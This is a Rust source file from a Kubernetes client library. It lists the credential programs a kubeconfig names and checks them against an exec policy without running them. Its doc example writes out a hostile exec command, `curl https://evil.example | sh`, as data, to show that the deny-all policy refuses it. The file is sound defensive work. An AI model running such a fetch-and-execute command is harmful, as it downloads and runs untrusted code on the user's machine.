//! [`Program`]: a program that a kubeconfig names. It is looked for here, and never run.

use std::fmt;
use std::path::PathBuf;

use super::exec::{Exec, ExecPolicy};
use super::kubeconfig::{Cluster, Kubeconfig, NamedAuthInfo};
use super::lookup::{allowed, find};
use crate::meta::status::Printable;

/// A program that a kubeconfig names for a credential, in whatever context.
///
/// `Debug` and `Display` tell how many arguments it has, and no more of them: a password may be among them.
#[derive(Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Program {
    /// The user whose credential it gives.
    pub user: String,
    /// The file that names it; `None` where it was a text.
    pub file: Option<PathBuf>,
    /// The contexts of this user.
    pub contexts: Vec<String>,
    /// The command, as it is written there.
    pub command: String,
    /// Its arguments. Those of a shell are programs themselves.
    pub args: Vec<String>,
    /// The names of the variables that it is given beside this process's.
    pub env: Vec<String>,
    /// The file that would be run; `None` where there is none.
    pub path: Option<PathBuf>,
    /// Why it would not be run: it is not there, the policy denies it, or its settings are wrong.
    pub refusal: Option<String>,
}

impl Kubeconfig {
    /// The programs that this kubeconfig names, and whether they may run under a policy. None is run, no context is
    /// chosen, and no file is opened; `PATH` is searched for them.
    ///
    /// One that stands beside a token or a password, which go before it, is told of, too.
    ///
    /// ```
    /// use kubeclient::config::{ExecPolicy, Kubeconfig};
    ///
    /// let kubeconfig = Kubeconfig::from_yaml(
    ///     "users: [{name: u, user: {exec: {command: sh, args: [-c, 'curl https://evil.example | sh'],
    ///       apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never}}}]",
    /// )?;
    /// let programs = kubeconfig.programs(&ExecPolicy::DenyAll);
    /// assert_eq!((programs[0].user.as_str(), programs[0].command.as_str()), ("u", "sh"));
    /// assert_eq!(programs[0].args[1], "curl https://evil.example | sh");
    /// assert!(programs[0].refusal.as_ref().unwrap().contains("the exec policy denies all programs"));
    /// # Ok::<(), kubeclient::Error>(())
    /// ```
    pub fn programs(&self, policy: &ExecPolicy) -> Vec<Program> {
        self.users.iter().filter_map(|entry| self.program(entry, policy)).collect()
    }

    fn program(&self, entry: &NamedAuthInfo, policy: &ExecPolicy) -> Option<Program> {
        let config = entry.user.exec.as_ref()?;
        let path = std::env::var_os("PATH");
        let made = Exec::of_kubeconfig(config, &Cluster::default()).and_then(|mut exec| {
            exec.command = entry.exec_command().unwrap_or_default();
            allowed(&exec, policy, path.as_deref())
        });
        let contexts = self.contexts.iter().filter(|context| context.context.user == entry.name);
        Some(Program {
            user: entry.name.clone(),
            file: entry.location_of_origin.clone(),
            contexts: contexts.map(|context| context.name.clone()).collect(),
            command: config.command.clone(),
            args: config.args.clone(),
            env: config.env.iter().map(|variable| variable.name.clone()).collect(),
            path: entry.exec_command().and_then(|command| find(&command, path.as_deref())),
            refusal: made.err().map(|error| error.to_string()),
        })
    }
}

impl fmt::Debug for Program {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Program")
            .field("user", &self.user)
            .field("file", &self.file)
            .field("contexts", &self.contexts)
            .field("command", &self.command)
            .field("args", &self.args.len())
            .field("env", &self.env)
            .field("path", &self.path)
            .field("refusal", &self.refusal)
            .finish()
    }
}

/// `user "u" (of /x/config, in the contexts "a", "b"): "aws" with 8 arguments and the variables "AWS_PROFILE": runs
/// "/usr/bin/aws"`; what a file says is quoted, so that it can't steer a terminal.
impl fmt::Display for Program {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let quoted = |names: &[String]| {
            let names: Vec<_> = names.iter().map(|name| format!("{name:?}")).collect();
            names.join(", ")
        };
        write!(f, "user {:?} (", self.user)?;
        if let Some(file) = &self.file {
            write!(f, "of {}, ", Printable(&file.display().to_string()))?;
        }
        match &self.contexts[..] {
            [] => f.write_str("in no context")?,
            contexts => write!(f, "in the contexts {}", quoted(contexts))?,
        }
        write!(f, "): {:?} with {} arguments", self.command, self.args.len())?;
        if !self.env.is_empty() {
            write!(f, " and the variables {}", quoted(&self.env))?;
        }
        match (&self.refusal, &self.path) {
            (Some(refusal), _) => write!(f, ": {}", Printable(refusal)),
            (None, Some(path)) => write!(f, ": runs {:?}", path.display().to_string()),
            (None, None) => Ok(()),
        }
    }
}

#[cfg(test)]
#[cfg(unix)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::config::sample::script;

    const API: &str = "apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never";

    #[test]
    fn each_program_is_told_without_a_context_and_none_is_run() {
        let folder = tempfile::tempdir().unwrap();
        let trace = folder.path().join("trace");
        script(&folder.path().join("p"), &format!("echo > {}", trace.display()));
        let file = folder.path().join("config");
        let text = format!(
            "{{contexts: [{{name: a, context: {{user: one}}}}, {{name: b, context: {{user: one}}}}],
              users: [{{name: none, user: {{token: CANARY}}}},
                {{name: one, user: {{exec: {{command: ./p, args: [CANARY, '2'], {API},
                  env: [{{name: LD_PRELOAD, value: CANARY}}], installHint: CANARY}}}}}},
                {{name: beside, user: {{token: CANARY, exec: {{command: sh, {API}}}}}}},
                {{name: gone, user: {{exec: {{command: no-such-program, installHint: get it, {API}}}}}}},
                {{name: wrong, user: {{exec: {{command: sh}}}}}}]}}"
        );
        std::fs::write(&file, text).unwrap();
        let kubeconfig = Kubeconfig::read_from(&file).unwrap();
        let programs = kubeconfig.programs(&ExecPolicy::AllowAll);
        let [one, beside, gone, wrong] = &programs[..] else { panic!("{programs:?}") };
        let path = folder.path().join("./p");
        assert_eq!((one.user.as_str(), one.command.as_str()), ("one", "./p"));
        assert_eq!((one.args.len(), &one.env[..]), (2, &["LD_PRELOAD".to_owned()][..]));
        assert_eq!((one.path.as_deref(), one.file.as_deref()), (Some(&*path), Some(&*file)));
        assert_eq!(
            (&one.contexts[..], &one.refusal),
            (&["a".to_owned(), "b".to_owned()][..], &None)
        );
        assert!(beside.path.as_deref().is_some_and(Path::is_absolute) && beside.refusal.is_none());
        assert_eq!(gone.path, None);
        assert_eq!(gone.refusal.as_deref(), Some("no such program in PATH: get it"));
        assert!(wrong.refusal.as_ref().unwrap().contains("apiVersion: expected"), "{wrong}");
        let (shown, path) = (one.to_string(), path.canonicalize().unwrap());
        assert_eq!(
            shown,
            format!(
                "user \"one\" (of {}, in the contexts \"a\", \"b\"): \"./p\" with 2 arguments and the \
                 variables \"LD_PRELOAD\": runs {:?}",
                file.display(),
                one.path.as_ref().unwrap().display().to_string()
            )
        );
        assert!(path.exists() && !format!("{programs:?} {shown}").contains("CANARY"));

        let denied = kubeconfig.programs(&ExecPolicy::DenyAll);
        assert_eq!(denied.len(), 4);
        assert!(denied.iter().all(|program| program.refusal.is_some()), "{denied:?}");
        assert!(denied[0].to_string().ends_with(": not run: the exec policy denies all programs"));
        let listed = ExecPolicy::Allowlist(vec!["sh".into()]);
        let listed = kubeconfig.programs(&listed);
        let runs: Vec<_> = listed.iter().filter(|program| program.refusal.is_none()).collect();
        assert_eq!(runs.len(), 1);
        assert_eq!(runs[0].user, "beside");
        assert!(!trace.exists());
    }
}
